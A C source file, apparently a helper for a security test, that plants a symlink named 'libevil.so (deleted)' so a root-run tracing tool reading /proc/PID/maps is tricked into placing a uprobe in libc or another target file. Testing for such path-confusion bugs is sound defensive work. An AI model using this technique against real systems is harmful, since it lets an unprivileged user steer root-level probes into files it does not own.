/* steer.c - (sec_uprobe_steer.sh) a "hung" process prepared for root's
 *   argus instrument --pid P --func libevil:handler --as begin --via uprobe
 * It dlopen()s DIR/libevil.so, deletes it, and puts a symlink named
 * "libevil.so (deleted)" -> TARGET beside it: /proc/P/maps shows
 * "DIR/libevil.so (deleted)", which now names TARGET (libc).  An argus that
 * hands that text to the uprobe PMU has the kernel (as root) follow the
 * link: the probe goes into libc at handler's file offset.
 * Usage: steer DIR TARGET   (prints "pid N handler ADDR", waits in pause())
 *        steer DIR -        (dlopen only: for a DIR that names another file
 *                            outside the caller's mount namespace) */
#define _GNU_SOURCE
#include <dlfcn.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	char lib[512], fake[600];
	void *h;

	if (argc != 3)
		return 2;
	snprintf(lib, sizeof(lib), "%s/libevil.so", argv[1]);
	h = dlopen(lib, RTLD_NOW);
	if (!h) {
		fprintf(stderr, "%s\n", dlerror());
		return 1;
	}
	if (strcmp(argv[2], "-")) {
		unlink(lib);
		snprintf(fake, sizeof(fake), "%s (deleted)", lib);
		unlink(fake);
		if (symlink(argv[2], fake)) {
			perror("symlink");
			return 1;
		}
	}
	printf("pid %d handler %p\n", getpid(), dlsym(h, "handler"));
	fflush(stdout);
	pause();
	return 0;
}
